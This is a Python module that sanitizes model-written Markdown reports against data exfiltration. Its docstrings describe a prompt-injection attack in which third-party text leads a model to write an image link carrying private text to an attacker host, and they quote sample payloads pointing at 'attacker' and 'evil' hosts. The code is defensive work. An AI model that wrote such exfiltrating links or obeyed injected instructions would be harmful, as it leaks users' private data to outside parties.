"""Model-written report text made safe to open anywhere: no remote images, no raw HTML, no links that carry data out.

A report's answer is written by a model that read third-party text (web pages, snippets, shared documents), so an
injected instruction can make it write ``![x](https://attacker/?d=<private text>)``: any Markdown viewer that loads
remote images (a Git forge, an editor preview, a wiki) sends the data when the file is opened, and a link sends it
on one click. ``safe_answer`` rewrites the Markdown of an answer, outside code spans and fenced code blocks:

- an image becomes its alt text (a remote one also gets the link rule below, so at most a plain link remains);
- raw HTML is escaped (``\\<img …>`` shows as text; a viewer never builds a tag from model text);
- a link (inline, autolink, bare URL, reference definition) stays a link only when it points into the report itself
  (no scheme, no host) or, with ``links: cited`` (the default), to a host one of the report's web sources is on;
  any other link becomes its text followed by "(link to `host` removed: not a cited source)". ``links: all`` keeps
  http(s) links to any host (images and raw HTML are still removed).

The rewrite is textual (regular expressions over CommonMark's inline forms), applied where the report Markdown is
produced (``citations.report_markdown``; the server's ``answer_html`` renders the same rewritten text).
"""

from __future__ import annotations

import re
from typing import Iterable, Literal
from urllib.parse import urlsplit

LinkRule = Literal["cited", "all"]

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(?:.|\n)*?(?<!`)\1(?!`)")
_TEXT = r"(?P<{}>(?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)"
_DEST = r"\s*(?P<{}><[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*"
_INLINE = re.compile(
    r"(?P<image>!\[" + _TEXT.format("ialt") + r"\]\(" + _DEST.format("iurl") + r"\))"
    r"|(?P<refimage>!\[" + _TEXT.format("ralt") + r"\](?:\[[^\[\]]*\])?)"
    r"|(?P<link>\[" + _TEXT.format("ltext") + r"\]\(" + _DEST.format("lurl") + r"\))"
    r"|(?P<definition>^ {0,3}\[[^\[\]\n]+\]:[ \t]*<?[^\s>]+>?[^\n]*$)"
    r"|(?P<autolink><[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*>)"
    r"|(?P<html><(?=[A-Za-z/!?]))"
    r"|(?P<bare>(?<![\w/])(?:https?://|www\.)[^\s<>`]+)",
    re.MULTILINE | re.IGNORECASE)


def report_hosts(urls: Iterable[str]) -> set[str]:
    """The hosts of the report's web sources (lower case), the hosts a ``cited`` link may point to."""
    return {host.lower() for url in urls if url.startswith(("http://", "https://"))
            for host in [urlsplit(url).hostname or ""] if host}


def safe_answer(text: str, hosts: set[str], links: LinkRule = "cited") -> str:
    """``text`` (model-written Markdown) with remote images dropped, raw HTML escaped and links to other hosts
    removed (module docstring); code spans and fenced code blocks are left as they are."""
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        opened = _FENCE.match(line)
        if fence is None and opened:
            out.append(_prose("".join(prose), hosts, links))
            prose, fence = [], opened.group(1)[0] * len(opened.group(1))
            out.append(line)
        elif fence is not None:
            out.append(line)
            if line.strip().startswith(fence) and not line.strip().strip(fence[0]):
                fence = None
        else:
            prose.append(line)
    out.append(_prose("".join(prose), hosts, links))
    return "".join(out)


def _prose(text: str, hosts: set[str], links: LinkRule) -> str:
    """Rewrite the text between code spans."""
    parts, pos = [], 0
    for span in _CODE_SPAN.finditer(text):
        parts += [_INLINE.sub(lambda m: _rewrite(m, hosts, links), text[pos:span.start()]), span.group(0)]
        pos = span.end()
    parts.append(_INLINE.sub(lambda m: _rewrite(m, hosts, links), text[pos:]))
    return "".join(parts)


def _rewrite(m: re.Match[str], hosts: set[str], links: LinkRule) -> str:
    kind = m.lastgroup
    if kind == "html":
        return "\\<"
    if kind == "image":
        return _link(m.group(0), _unbracket(m.group("iurl")), hosts, links, text=m.group("ialt") or "image",
                     image=True)
    if kind == "refimage":
        return m.group("ralt") or "image"
    if kind == "link":
        return _link(m.group(0), _unbracket(m.group("lurl")), hosts, links, text=m.group("ltext"))
    if kind == "definition":
        url = m.group(0).split("]:", 1)[1].strip().split()[0].strip("<>")
        return m.group(0) if _allowed(url, hosts, links) else "\\" + m.group(0).lstrip(" ").split(url)[0] + \
            _removed(url)
    url = m.group(0).strip("<>")
    return m.group(0) if _allowed(url, hosts, links) else _removed(url)


def _link(whole: str, url: str, hosts: set[str], links: LinkRule, *, text: str, image: bool = False) -> str:
    """A kept link (a remote image becomes a plain link to it, a local one its alt text), or its text with the
    removal note."""
    if not _allowed(url, hosts, links):
        return f"{text} {_removed(url)}" if text else _removed(url)
    if image:
        return f"[{text}](<{url}>)" if _is_remote(url) else text
    return whole


def _unbracket(dest: str) -> str:
    return dest[1:-1] if dest.startswith("<") and dest.endswith(">") else dest


def _is_remote(url: str) -> bool:
    return bool(re.match(r"[A-Za-z][A-Za-z0-9+.-]*:|//", url)) or url.lower().startswith("www.")


def _allowed(url: str, hosts: set[str], links: LinkRule) -> bool:
    """A link into the report itself, or an http(s) link the rule allows."""
    if not _is_remote(url):
        return True
    parts = urlsplit(url if not url.lower().startswith("www.") else "https://" + url)
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return False
    return links == "all" or parts.hostname.lower() in hosts


def _removed(url: str) -> str:
    """The note that replaces a removed link: its host as code (never a link itself), never its path or query."""
    try:
        host = urlsplit(url if "//" in url else "//" + url).hostname or url.split(":", 1)[0]
    except ValueError:
        host = "?"
    host = re.sub(r"[^A-Za-z0-9.\-:\[\]]", "", host)[:80] or "?"
    return f"(link to `{host}` removed: not a cited source)"


_INLINE_SYNTAX = re.compile(r"([\\`\[\]<>!])")
_PLAIN_URL = re.compile(r"https?://[^\s<>\[\]`\\]+")


def md_inline(text: str) -> str:
    """Outside text (a document's or page's title, a file name) as one line of literal Markdown text: whitespace
    and line breaks collapsed (no new block, no heading) and the characters that build links, images, HTML or code
    backslash-escaped (emphasis is left alone: it carries nothing out), so a title such as
    ``x](https://evil/?d=1) ![`` stays text in report.md."""
    return _INLINE_SYNTAX.sub(r"\\\1", " ".join(text.split()))


def md_source(source: str) -> str:
    """A source for a report's Sources list: an http(s) URL as it is (its own link), anything else ``md_inline``."""
    return source if _PLAIN_URL.fullmatch(source) else md_inline(source)

